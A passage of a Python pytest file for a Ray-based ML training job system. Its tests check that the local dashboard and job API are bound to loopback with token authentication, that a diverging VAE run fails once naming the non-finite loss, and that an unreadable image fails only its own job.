    if conn.status == psutil.CONN_LISTEN and conn.laddr.port == port
})

def jobs_api(headers):
    request = urllib.request.Request(f"http://{url}/api/jobs/", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code

header = AuthenticationTokenLoader.instance().get_token_for_http_header()
token = dict(header) if isinstance(header, dict) else {"Authorization": header}
print(json.dumps({
    "dashboard": url,
    "listening": listening,
    "token_auth": is_token_auth_enabled(),
    "without_token": jobs_api({}),
    "wrong_token": jobs_api({"Authorization": "Bearer not-the-token"}),
    "with_token": jobs_api(token),
}))
ray.shutdown()
"""


@pytest.mark.ray
def test_local_ray_has_token_auth_and_its_dashboard_and_job_api_on_loopback() -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("RAY_ADDRESS", "RAY_AUTH_MODE")}
    done = subprocess.run(
        [sys.executable, "-c", RAY_DEFAULTS_PROBE],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["dashboard"].startswith("127.0.0.1:")
    assert report["listening"] == ["127.0.0.1"]
    assert report["token_auth"] is True
    assert (report["without_token"], report["wrong_token"]) == (401, 403)
    assert report["with_token"] == 200


# -- bad input on a real cluster: the job fails with the reason, the dispatcher goes on ------------


def tiny_spec(**sections: Any) -> JobSpec:
    return validate_spec_dict(
        {
            "name": "bad-input",
            "model": {"type": "pixelcnn", "params": {"layers": 1, "channels": 4}},
            "data": {"dataset": "digits"},
            "train": {"epochs": 1, "max_steps_per_epoch": 3, "num_samples": 4},
            "scaling": {"num_workers": 1, "max_failures": 0},
            **sections,
        }
    )


@pytest.mark.ray
def test_a_diverging_run_fails_once_naming_the_non_finite_loss(stack: Stack, dispatcher) -> None:
    # A VAE at a constant lr 10 with Adam (no recipe warm-up): the encoder's log-variance
    # overflows at step 2 (seeded).
    train = {"epochs": 2, "lr": 10.0, "optimizer": "adam", "max_steps_per_epoch": 10}
    job_id = stack.queue.submit(
        tiny_spec(
            model={"type": "vae", "params": {"latent_dim": 2, "channels": 4, "iw_samples": 1}},
            train={**train, "lr_schedule": "constant", "warmup_steps": 0},
            scaling={"num_workers": 1, "max_failures": 2},  # Ray Train must not retry it either
        )
    )
    record = stack.wait_final(job_id, timeout=180)
    logs = stack.store.logs(job_id, tail=200)
    assert not any("resumed from" in line for line in logs)
    assert any("run stopped: NonFiniteLossError" in line for line in logs)

    assert record.status == JobStatus.FAILED
    assert record.attempts == 1 and record.max_attempts == 3  # not retried: it would diverge again
    assert "NonFiniteLossError" in record.last_error
    assert re.search(
        r"loss of phase 'train' is (nan|-?inf) at epoch 1, step \d+", record.last_error
    )


@pytest.mark.ray
def test_an_unreadable_image_fails_its_job_by_name_and_the_next_job_still_runs(
    stack: Stack, dispatcher
) -> None:
    pets = stack.settings.data_dir / "pets"
    pets.mkdir(parents=True)
    Image.new("RGB", (12, 12), color=(0, 200, 0)).save(pets / "good.png")
    (pets / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    bad = stack.queue.submit(
        tiny_spec(data={"dataset": "image_folder", "root": "pets", "image_size": 8})
    )
    failed = stack.wait_final(bad, timeout=180)
    good = stack.queue.submit(tiny_spec())
    succeeded = stack.wait_final(good, timeout=180)

    assert failed.status == JobStatus.FAILED and failed.attempts == 1
    assert "DatasetError" in failed.last_error
    assert f"cannot read image {pets / 'broken.jpg'}" in failed.last_error
    assert succeeded.status == JobStatus.SUCCEEDED, succeeded.last_error
    # What a real run left in Redis is JSON and text too; its PNGs lie in storage.
    found = formats_by_family(stack.store.redis, stack.settings.prefix)
    assert found["images"] == {"json", "text"}
    assert {"job", "events", "metrics", "logs", "checkpoints", "dispatcher", "dispatchers"} <= set(
        found
    )
